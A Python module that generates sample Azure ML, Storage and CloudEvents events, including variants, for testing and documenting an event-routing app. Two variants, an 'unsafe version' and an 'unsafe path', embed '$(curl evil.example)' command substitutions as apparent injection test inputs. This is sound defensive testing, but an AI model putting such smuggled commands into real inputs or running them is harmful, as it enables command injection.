"""Sample events, generated from the declarations of the event types. ``send`` and ``preview --all`` use them.

``make docs`` writes the events of ``sample_files`` to devstack/events.
"""

import re
import uuid
from collections.abc import Mapping
from typing import Any, Final
from urllib.parse import quote, unquote

from handlers import EVENT_TYPES, event_type
from shared.events.runs import MONITOR_BREACH_TAG
from tools.events.documents import Assignment, Document, Schema, assigned, in_schema

SAMPLE_NAMES: Final = tuple(EVENT_TYPES)
"""The event types, as routes.yaml names them."""

_TIME: Final = "2026-11-20T10:00:00.0000000Z"


_BLOB_CREATED: Final = "Microsoft.Storage.BlobCreated"
_CONTAINER: Final = "training-data"
_MONITOR_RUN: Final = "sample_monitor_run"


def _breach(signal: str, tags: Mapping[str, str], properties: Mapping[str, str]) -> dict[str, Any]:
    """Return the data of a monitor's step whose signal has breached its threshold.

    :param tags: the step's other tags. Azure ML names the monitor's run in the tags or in the properties.
    """
    message = f"Signal {signal} has failed: features violate metric thresholds"
    return {
        "experimentName": "sample-monitor",
        "runType": "azureml.StepRun",
        "runTags": {MONITOR_BREACH_TAG: message, **tags},
        "runProperties": {"stepType": "SparkStep", **properties},
        "runStatus": "Completed",
    }


def _blob(api: str, path: str, size: int, host: str = "blob", **others: Any) -> dict[str, Any]:
    """Return what differs in the data of an event about a blob in the container ``training-data``."""
    url = f"https://samplestorage.{host}.core.windows.net/{_CONTAINER}/{quote(path)}"
    return {"api": api, "contentLength": size, "url": url, **others}


# By file name: the event type, and the differences from the sample event of that type.
_VARIANTS: Final[Mapping[str, tuple[str, dict[str, Any]]]] = {
    "run-completed": (
        "RunCompleted",
        {
            "runTags": {"dataset": "transactions:31", "builD_BUILDID": "4711"},  # the tag BUILD_BUILDID
            "runProperties": {
                "_azureml.ComputeTargetType": "amlctrain",
                "contentSnapshotId": "55555555-5555-5555-5555-555555555555",
                "azureml.git.branch": "main",
                "azureml.git.commit": "2f8c1be0d94a67352ec7f1a08b5d3e96c47a0b1d",
                "azureml.git.repository_uri": "https://dev.azure.com/contoso/mlops/_git/training",
            },
        },
    ),
    "run-completed-automl-child": (
        "RunCompleted",
        {
            "runId": "AutoML_3b8d5f70-6c1e-4a92-b4d7-90e2f1c8a635_12",
            "runType": None,
            "runProperties": {"runTemplate": "automl_child", "iteration": "12"},
        },
    ),
    "run-completed-sweep-trial": (
        "RunCompleted",
        {"runId": "brave_kiwi_7m3x9q2rtz_3", "runTags": {"hyperparameters": '{"learning_rate": 0.01}'}},
    ),
    "run-status-changed-monitor-breach": (
        "RunStatusChanged",
        _breach("data-drift", {"azureml.pipelinerunid": _MONITOR_RUN}, {}),
    ),
    "run-status-changed-monitor-breach.cloud": (
        "RunStatusChanged",
        _breach(
            "prediction-drift",
            {},
            {"azureml.pipelinerunid": "sample_signal_run", "azureml.rootpipelinerunid": _MONITOR_RUN},
        ),
    ),
    "run-status-changed-running": ("RunStatusChanged", {"runStatus": "Running"}),
    "model-registered-experiment": ("ModelRegistered", {"ModelTags": {"stage": "experiment"}}),
    "model-registered-unsafe-version": ("ModelRegistered", {"ModelVersion": "21$(curl evil.example)"}),
    "blob-created-data-lake": (
        _BLOB_CREATED,
        _blob("FlushWithClose", "raw data/Größe 5/teil 1.parquet", 1_048_576, host="dfs", contentOffset=1_048_576),
    ),
    "blob-created-data-lake-open": (
        _BLOB_CREATED,
        _blob("CreateFile", "raw data/Größe 5/teil 1.parquet", 0, host="dfs", contentOffset=0),
    ),
    "blob-created-directory": (_BLOB_CREATED, _blob("PutBlob", "landing/2026-11-21", 0)),
    "blob-created-success": (_BLOB_CREATED, _blob("PutBlob", "landing/2026-11-20/_SUCCESS", 0)),
    "blob-created-unsafe-path": (_BLOB_CREATED, _blob("PutBlob", "landing/$(curl evil.example).csv", 17)),
    "orders-landed.cloud": ("com.example.orders.landed", {"region": "west", "orders": 1200}),
    "dataset-drift-detected.cloud": ("DatasetDriftDetected", {"DataDriftName": "another-monitor"}),
    "dataset-drift-detected-again": ("DatasetDriftDetected", {}),
    "dataset-drift-detected-small": ("DatasetDriftDetected", {"DriftCoefficient": 0.117}),
}


def sample_event(name: str, number: int = 1) -> Document:
    """Return one event in the Event Grid schema.

    :param name: the event type as routes.yaml names it, for example ``RunCompleted`` or ``com.example.orders.landed``.
    :param number: a number that identifies the occurrence; each number is a different occurrence.
    :raises KeyError: there is no such event type.
    """
    declared = event_type(name)
    subject, data = declared.sample(number)
    return {
        "topic": declared.sample_source,
        "eventType": declared.type,
        "subject": subject,
        "eventTime": _TIME,
        "id": f"00000000-0000-0000-0000-{number:012x}",
        "data": data,
        "dataVersion": "2",
        "metadataVersion": "1",
    }


def named_sample(name: str, number: int = 1) -> Document:
    """Return the sample event of an event type, or the one that is stored as a file with this name.

    :param number: identifies the occurrence, if the name is that of an event type.
    :raises KeyError: there is no such sample.
    """
    stored = {} if name in EVENT_TYPES else sample_files()
    return stored[name] if name in stored else sample_event(name, number)


def sample_files() -> dict[str, Document]:
    """Return the events that are stored as files, by file name without ``.json``, sorted by event type.

    There is one event of each type in each schema (``*.cloud`` are CloudEvents), variants that the app or routes.yaml
    handles differently, and an event of no service. All are different occurrences, in the order in which to send them.
    """
    plain = [(f"{kebab_case(name)}{suffix}", name) for name in EVENT_TYPES for suffix in ("", ".cloud")]
    files = {**{file: (name, {}) for file, name in plain}, **_VARIANTS}
    types = [*SAMPLE_NAMES, *(name for name, _ in files.values())]
    ordered = sorted(files, key=lambda file: (types.index(files[file][0]), file))
    return {file: _file(file, number, *files[file]) for number, file in enumerate(ordered, 1)}


def _file(file: str, number: int, name: str, changes: Mapping[str, Any]) -> Document:
    event = assigned(sample_event(name, number), [Assignment(("data", key), value) for key, value in changes.items()])
    if "url" in changes:
        path = unquote(changes["url"].partition(f"/{_CONTAINER}/")[2])
        event["subject"] = f"/blobServices/default/containers/{_CONTAINER}/blobs/{path}"
    event["id"] = str(uuid.uuid5(uuid.NAMESPACE_URL, file))
    return in_schema(event, Schema.CLOUD if file.endswith(".cloud") else Schema.EVENT_GRID)


def kebab_case(name: str) -> str:
    """Return the last part of a type's name: ``blob-created`` for ``Microsoft.Storage.BlobCreated``."""
    return re.sub(r"(?<!^)(?=[A-Z])", "-", name.rpartition(".")[2]).lower()
